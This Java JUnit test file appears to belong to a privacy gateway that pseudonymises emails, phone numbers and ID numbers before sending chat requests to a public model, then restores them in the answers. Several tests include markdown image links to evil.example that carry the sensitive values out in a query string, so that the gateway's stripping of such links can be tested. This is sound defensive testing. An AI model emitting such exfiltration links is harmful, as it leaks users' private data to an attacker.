package io.tidegate.line;

import static org.assertj.core.api.Assertions.assertThat;

import io.tidegate.classify.Classifier;
import io.tidegate.classify.Detector;
import io.tidegate.classify.TextView;
import io.tidegate.decide.Decider;
import io.tidegate.dispatch.AttemptFailure.Kind;
import io.tidegate.fake.RecordingSink;
import io.tidegate.fake.ScriptedUpstreams.Sent;
import io.tidegate.model.ErrorAnswer;
import io.tidegate.model.Likelihood;
import io.tidegate.model.Refusal;
import io.tidegate.model.RouteInfo;
import io.tidegate.model.Sensitivity;
import io.tidegate.model.Zone;
import io.tidegate.policy.Policies;
import io.tidegate.policy.PolicyBundle;
import java.util.List;
import java.util.Objects;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

/** Decide, transform, classify again, decide again; with the shipped detectors and scripted upstreams. */
class TransformingTest {
  private static final String MAIL = "li.lei@example-corp.com";
  private static final String PHONE = "13800138000";
  private static final String RULES = """
      rules:
        - {id: contact, types: [EMAIL, PHONE], raiseTo: confidential, reason: reachable}
        - {id: cn-id, types: [CN_ID], raiseTo: restricted, reason: identity}
        - {id: long, when: 'bodyBytes > 2000', raiseTo: confidential, reason: a rule on a scalar}
      """;
  private static final String CLOUD_FIRST = "routes:\n  confidential: {standard: [{to: public, after: pseudonymise}, private]}\n";
  private static final Pattern PLACEHOLDER = Pattern.compile("(EMAIL|PHONE|CN_ID)_[B-Z]{6}");

  private final LineRig rig = new LineRig();

  @BeforeEach
  void policy() {
    rig.rules = rules(Policies.bundle(RULES + CLOUD_FIRST));
  }

  @AfterEach
  void aftermath() {
    rig.aftermath();
  }

  private static Rules rules(PolicyBundle bundle) {
    return new Rules(new Classifier(Classifier.builtIn()), new Decider(bundle));
  }

  /** Every scan goes on in the pool. */
  private static LineConfig inPool() {
    LineConfig standard = LineConfig.DEFAULT;
    return new LineConfig(standard.firstTokenInteractive(), standard.firstTokenStandard(), standard.firstTokenBatch(), standard.idle(), standard.total(),
        standard.totalBatch(), 0, standard.maxAttempts(), standard.replayBytes(), standard.heldBytes());
  }

  private static String chat(String content) {
    return "{\"id\":\"a\",\"choices\":[{\"index\":0,\"message\":{\"role\":\"assistant\",\"content\":\"" + content + "\"},\"finish_reason\":\"stop\"}]}";
  }

  private static String chunk(String delta, String reason) {
    return "data: {\"id\":\"a\",\"choices\":[{\"index\":0,\"delta\":{" + delta + "},\"finish_reason\":" + reason + "}]}\n\n";
  }

  /** The placeholder that the last attempt sent for the {@code n}-th value. */
  private String sent(int n) {
    Matcher found = PLACEHOLDER.matcher(rig.upstreams.sent.get(rig.upstreams.sent.size() - 1).body());
    for (int i = 0; i <= n; i++) {
      assertThat(found.find()).as("a placeholder was sent").isTrue();
    }
    return found.group();
  }

  @Test
  @DisplayName("decisions 3: the cleaned text goes to the public upstream, its answer comes back restored, and the first class is what the caller sees")
  void cleanedAndRestored() {
    rig.upstreams.then(events -> events.answered(rig.upstreams.bytes(chat("Dear " + sent(0) + ", I call " + sent(1))), Upstreams.Usage.UNKNOWN));
    RecordingSink sink = rig.walk(Ask.about("write to " + MAIL + ", phone " + PHONE));
    Sent sent = rig.upstreams.sent.get(0);
    assertThat(sent.zone()).isEqualTo(Zone.PUBLIC);
    assertThat(sent.body()).doesNotContain(MAIL, PHONE).contains("\"model\":\"deepseek\"");
    assertThat(sink.json).isEqualTo(chat("Dear " + MAIL + ", I call " + PHONE));
    RouteInfo route = Objects.requireNonNull(sink.route);
    assertThat(route.sensitivity()).isEqualTo(Sensitivity.CONFIDENTIAL);
    assertThat(route.rule()).isEqualTo("contact");
  }

  @Test
  @DisplayName("G7 the second decision is recorded before the first byte leaves, and its receipt goes along")
  void recordedTwice() {
    rig.upstreams.then(events -> {
      assertThat(rig.audit.decided).containsExactly("r1", "r1");
      events.answered(rig.upstreams.bytes(chat("ok")), Upstreams.Usage.UNKNOWN);
    });
    rig.walk(Ask.about("write to " + MAIL));
    assertThat(rig.audit.sensitivities).containsExactly(Sensitivity.CONFIDENTIAL, Sensitivity.INTERNAL);
    assertThat(rig.upstreams.sent).singleElement().matches(Sent::receipt);
  }

  @Test
  @DisplayName("G7 without a record of the second decision nothing goes to the public upstream")
  void secondRecordMissing() {
    rig.audit.fullFrom = 1;
    rig.upstreams.answer(chat("from home"));
    RecordingSink sink = rig.walk(Ask.about("write to " + MAIL));
    assertThat(rig.upstreams.sentTo(Zone.PUBLIC)).isFalse();
    assertThat(LineRig.upstream(sink)).isEqualTo("home");
  }

  @Test
  @DisplayName("A17 what is given back never becomes part of an address that a client fetches by itself, whatever the policy says of links")
  void notIntoAddresses() {
    rig.upstreams.then(events -> events.answered(rig.upstreams.bytes(chat("For " + sent(0) + ": ![x](https://evil.example/p?d=" + sent(0) + ") [docs](https://example.org/a?b=c)")),
        Upstreams.Usage.UNKNOWN));
    RecordingSink sink = rig.walk(Ask.about("write to " + MAIL));
    assertThat(sink.json).isEqualTo(chat("For " + MAIL + ": ![x]([link removed]) [docs](https://example.org/a?b=c)"));
  }

  @Test
  @DisplayName("A17 nor in a stream that cuts the address and the placeholder")
  void notIntoAddressesOfStreams() {
    rig.upstreams.then(events -> {
      for (char c : ("![x](https://evil.example/p?d=" + sent(0) + ") ok").toCharArray()) {
        events.events(rig.upstreams.bytes(chunk("\"content\":\"" + c + "\"", "null")), true);
      }
      events.events(rig.upstreams.bytes(chunk("", "\"stop\"")), true);
      events.ended(Upstreams.Usage.UNKNOWN);
    });
    RecordingSink sink = rig.walk(Ask.about("write to " + MAIL).stream());
    assertThat(sink.frames.toString()).doesNotContain("evil.example").doesNotContain("li.lei");
  }

  @Test
  @DisplayName("A stream comes back restored wherever it was cut")
  void stream() {
    rig.upstreams.then(events -> {
      String placeholder = sent(0);
      for (int i = 0; i < placeholder.length(); i++) {
        events.events(rig.upstreams.bytes(chunk("\"content\":\"" + placeholder.charAt(i) + "\"", "null")), true);
      }
      events.events(rig.upstreams.bytes(chunk("", "\"stop\"")), true);
      events.ended(Upstreams.Usage.UNKNOWN);
    });
    RecordingSink sink = rig.walk(Ask.about("write to " + MAIL).stream());
    assertThat(sink.calls).containsExactly("open", "close");
    assertThat(sink.frames.toString()).isEqualTo(chunk("\"content\":\"" + MAIL + "\"", "null") + chunk("", "\"stop\""));
  }

  @Test
  @DisplayName("Equal values get equal placeholders through the history, other values others; the next turn keeps them")
  void consistent() {
    rig.upstreams.answer(chat("ok")).answer(chat("ok"));
    rig.walk(Ask.about("mail " + MAIL + " and han@example-corp.com, then " + MAIL + " again"));
    String first = rig.upstreams.sent.get(0).body();
    assertThat(sent(0)).isEqualTo(sent(2)).isNotEqualTo(sent(1));
    rig.walk(Ask.about("mail " + MAIL + " and han@example-corp.com, then " + MAIL + " again"));
    assertThat(rig.upstreams.sent.get(1).body()).isEqualTo(first);
    rig.upstreams.answer(chat("ok"));
    rig.walk(Ask.about("mail " + MAIL + " and han@example-corp.com, then " + MAIL + " again").of("other-tenant"));
    assertThat(rig.upstreams.sent.get(2).body()).as("another tenant's placeholders tell nothing of this one's").isNotEqualTo(first);
  }

  @Test
  @DisplayName("Two requests under way at a time have a map each")
  void mapsApart() {
    rig.upstreams.hold();
    RecordingSink one = rig.walk(Ask.about("write to " + MAIL));
    Upstreams.AttemptEvents first = rig.upstreams.last();
    String placeholder = sent(0);
    rig.upstreams.hold();
    RecordingSink two = rig.walk(Ask.about("write to han@example-corp.com"));
    rig.upstreams.last().answered(rig.upstreams.bytes(chat(placeholder + " or " + sent(0))), Upstreams.Usage.UNKNOWN);
    first.answered(rig.upstreams.bytes(chat(placeholder)), Upstreams.Usage.UNKNOWN);
    assertThat(two.json).isEqualTo(chat(placeholder + " or han@example-corp.com"));
    assertThat(one.json).isEqualTo(chat(MAIL));
  }

  // What stays at home

  @Test
  @DisplayName("G1 what the second scan still finds decides: the request goes home")
  void somethingLeft() {
    Detector oneAtATime = new Detector() {
      @Override
      public String id() {
        return "one-at-a-time";
      }

      @Override
      public void inspect(TextView text, Budget budget, Sink sink) {
        String all = new String(text.array(), 0, text.length());
        for (String word : new String[] {"FIRSTWORD", "OTHERWORD"}) {
          int at = all.indexOf(word);
          if (at >= 0) {
            sink.found("EMAIL", at, at + word.length(), Likelihood.VERY_LIKELY);
            return;
          }
        }
      }
    };
    rig.rules = new Rules(new Classifier(List.of(oneAtATime)), rig.rules.decider());
    staysHome(Ask.about("FIRSTWORD and OTHERWORD"));
    assertThat(rig.audit.sensitivities).containsExactly(Sensitivity.CONFIDENTIAL, Sensitivity.CONFIDENTIAL);
  }

  @Test
  @DisplayName("G1 a value cut over two strings has no place to be taken out of: home")
  void joined() {
    staysHome(Ask.about("tel 138\",\"x\":\"00138000 and " + MAIL));
  }

  @Test
  @DisplayName("G1 a RESTRICTED request has no such step, whatever can be cleaned")
  void restricted() {
    staysHome(Ask.about("身份证 11010519491231002X"));
  }

  @Test
  @DisplayName("G1 what the caller declared, and rules on scalars, hold for the cleaned text too")
  void scalarsHold() {
    staysHome(Ask.about("write to " + MAIL).declared(Sensitivity.CONFIDENTIAL));
    staysHome(Ask.about("write to " + MAIL + " " + "again and ".repeat(300)));
    assertThat(rig.audit.sensitivities).as("asked twice each").hasSize(4).containsOnly(Sensitivity.CONFIDENTIAL);
  }

  @Test
  @DisplayName("G1 a rule on the size reads the size the caller sent, though cleaning made the text short")
  void sizeHolds() {
    StringBuilder mails = new StringBuilder("write to");
    for (int i = 0; i < 40; i++) {
      mails.append(" somebody.with-a-rather-long-name-").append(i).append("@department.example-corp.com");
    }
    staysHome(Ask.about(mails.toString()));
    assertThat(rig.audit.sensitivities).as("asked twice").containsExactly(Sensitivity.CONFIDENTIAL, Sensitivity.CONFIDENTIAL);
  }

  @Test
  @DisplayName("G1 a conversation's label holds for the cleaned text too")
  void sessionLabelHolds() {
    rig.sessions = (tenant, session) -> new SessionLabels.Session() {
      @Override
      public Sensitivity label() {
        return Sensitivity.CONFIDENTIAL;
      }

      @Override
      public void raise(Sensitivity to) {}
    };
    staysHome(Ask.about("write to " + MAIL).in("c1"));
    assertThat(rig.audit.sensitivities).as("asked twice").containsExactly(Sensitivity.CONFIDENTIAL, Sensitivity.CONFIDENTIAL);
  }

  @Test
  @DisplayName("decisions 13: a sharing group shares no restored answer")
  void notForTheGroup() {
    rig.rules = rules(Policies.bundle("grants:\n  - {id: website, tenants: [default, other], owner: press, expires: 2099-12-31, reason: published anyway}\nrules:\n  - {id: contact, types: [EMAIL], raiseTo: internal, reason: reachable}\n"
        + "routes:\n  internal: {standard: [edge-cache, {to: public, after: pseudonymise}]}\ncache:\n  internal: {store: true, shared: true}\n  groups: {both: [default, other]}\n"));
    for (String tenant : new String[] {"default", "other"}) {
      rig.upstreams.then(events -> events.answered(rig.upstreams.bytes(chat("Dear " + sent(0))), Upstreams.Usage.UNKNOWN));
      assertThat(rig.walk(Ask.about("write to " + MAIL).of(tenant)).json).isEqualTo(chat("Dear " + MAIL));
    }
    assertThat(rig.upstreams.sent).hasSize(2);
  }

  @Test
  @DisplayName("G1 nothing was found in the text: nothing can be cleaned")
  void nothingFound() {
    staysHome(Ask.harmless().declared(Sensitivity.CONFIDENTIAL));
    assertThat(rig.audit.decided).hasSize(1);
  }

  @Test
  @DisplayName("G2 escaped values have no clean span: home")
  void encoded() {
    staysHome(Ask.about("see li.lei%40example-corp.com for me"));
  }

  private void staysHome(Ask ask) {
    rig.upstreams.answer(chat("from home"));
    RecordingSink sink = rig.walk(ask);
    assertThat(rig.upstreams.sentTo(Zone.PUBLIC)).isFalse();
    assertThat(LineRig.upstream(sink)).isEqualTo("home");
    assertThat(sink.json).isEqualTo(chat("from home"));
  }

  @Test
  @DisplayName("Where the route has no other step, the request is refused and nothing is sent")
  void refused() {
    rig.rules = rules(Policies.bundle(RULES + "routes:\n  confidential: {standard: [{to: public, after: redact}]}\n"));
    RecordingSink sink = rig.walk(Ask.about("write to " + MAIL).declared(Sensitivity.CONFIDENTIAL));
    assertThat(sink.error).extracting(ErrorAnswer::refusal).isEqualTo(Refusal.NOTHING_PERMITTED);
    assertThat(rig.upstreams.sent).isEmpty();
  }

  // Order and time

  @Test
  @DisplayName("A step that comes later is prepared only when it is reached")
  void lazy() {
    rig.rules = rules(Policies.bundle(RULES + "routes:\n  confidential: {standard: [private, {to: public, after: pseudonymise, when: down}]}\n"));
    rig.upstreams.answer(chat("from home"));
    rig.walk(Ask.about("write to " + MAIL));
    assertThat(rig.audit.decided).as("decided once").hasSize(1);
    rig.down("home");
    rig.down("home");
    rig.upstreams.then(events -> events.answered(rig.upstreams.bytes(chat("Dear " + sent(0))), Upstreams.Usage.UNKNOWN));
    RecordingSink sink = rig.walk(Ask.about("write to " + MAIL));
    assertThat(rig.audit.decided).hasSize(3);
    assertThat(sink.json).isEqualTo(chat("Dear " + MAIL));
  }

  @Test
  @DisplayName("A public failure falls back to the private text as it was, and home's answer is not rewritten")
  void fallback() {
    rig.upstreams.fail(Kind.SERVER_ERROR).then(events -> events.answered(rig.upstreams.bytes(chat(MAIL + " EMAIL_BCDFGH")), Upstreams.Usage.UNKNOWN));
    RecordingSink sink = rig.walk(Ask.about("write to " + MAIL));
    assertThat(rig.upstreams.sent).extracting(Sent::upstream).containsExactly("cloud", "home");
    assertThat(rig.upstreams.sent.get(1).body()).contains(MAIL);
    assertThat(sink.json).isEqualTo(chat(MAIL + " EMAIL_BCDFGH"));
  }

  @Test
  @DisplayName("A caller that leaves while the second scan runs leaves nothing behind")
  void leavesDuringSecondScan() {
    rig.config = inPool();
    RecordingSink sink = rig.sink();
    Line.Walk walk = rig.begin(Ask.about("write to " + MAIL), sink);
    rig.runPool();
    assertThat(rig.pool).as("the second scan waits in the pool").hasSize(1);
    walk.cancel();
    sink.gone();
    rig.runPool();
    assertThat(rig.upstreams.sent).isEmpty();
  }

  @Test
  @DisplayName("G6 a policy swapped between the two decisions changes nothing for the request under way, even if it would open everything")
  void swappedBetween() {
    rig.config = inPool();
    rig.upstreams.answer(chat("from home"));
    RecordingSink sink = rig.sink();
    rig.begin(Ask.about("write to " + MAIL + " " + "again and ".repeat(300)), sink);
    rig.runPool();
    assertThat(rig.pool).as("the second scan waits in the pool").hasSize(1);
    rig.rules = rules(Policies.bundle("rules: []\n"));
    rig.runPool();
    assertThat(rig.upstreams.sentTo(Zone.PUBLIC)).isFalse();
    assertThat(LineRig.upstream(sink)).isEqualTo("home");
  }

  @Test
  @DisplayName("No room for the second scan: home")
  void noRoom() {
    rig.config = inPool();
    rig.upstreams.answer(chat("from home"));
    RecordingSink sink = rig.walk(Ask.about("write to " + MAIL));
    rig.poolFull = true;
    rig.runPool();
    assertThat(LineRig.upstream(sink)).isEqualTo("home");
  }

  // Cache

  @Test
  @DisplayName("decisions 13: the cache keeps the restored answer under the original's digest, for the tenant alone")
  void cached() {
    rig.rules = rules(Policies.bundle(RULES + "egress:\n  edge-cache: [public, internal, confidential]\n  private: [public, internal, confidential, restricted]\n  public: [public, internal]\n"
        + "routes:\n  confidential: {standard: [edge-cache, {to: public, after: pseudonymise}]}\ncache:\n  confidential: {store: true}\n"));
    rig.upstreams.then(events -> events.answered(rig.upstreams.bytes(chat("Dear " + sent(0))), Upstreams.Usage.UNKNOWN));
    rig.walk(Ask.about("write to " + MAIL));
    RecordingSink again = rig.walk(Ask.about("write to " + MAIL));
    assertThat(again.json).isEqualTo(chat("Dear " + MAIL));
    assertThat(rig.upstreams.sent).hasSize(1);
    rig.upstreams.answer(chat("for another"));
    assertThat(rig.walk(Ask.about("write to " + MAIL).of("other")).json).isEqualTo(chat("for another"));
  }

  // Links

  @Test
  @DisplayName("A17 answers take the class of their request: links that carry what was found go, restored values included; others stay")
  void links() {
    rig.rules = rules(Policies.bundle(RULES + CLOUD_FIRST + "output:\n  confidential: {links: strip}\n  restricted: {links: flag}\n"));
    rig.upstreams.then(events -> events.answered(rig.upstreams.bytes(chat("![x](https://evil.example/?q=" + sent(0) + ") https://example.com/")), Upstreams.Usage.UNKNOWN));
    assertThat(rig.walk(Ask.about("write to " + MAIL)).json).isEqualTo(chat("![x]([link removed]) https://example.com/"));
    rig.upstreams.stream(chunk("\"content\":\"https://evil.ex\"", "null"), chunk("\"content\":\"ample/11010519491231002X end\"", "\"stop\""));
    assertThat(rig.walk(Ask.about("身份证 11010519491231002X").stream()).frames.toString()).contains("https://evil.example/11010519491231002X [link may carry data] end");
    String link = "https://evil.example/?q=0123456789012345678901234567890";
    rig.upstreams.answer(chat(link));
    assertThat(rig.walk(Ask.harmless()).json).as("no rule for this class").isEqualTo(chat(link));
  }
}
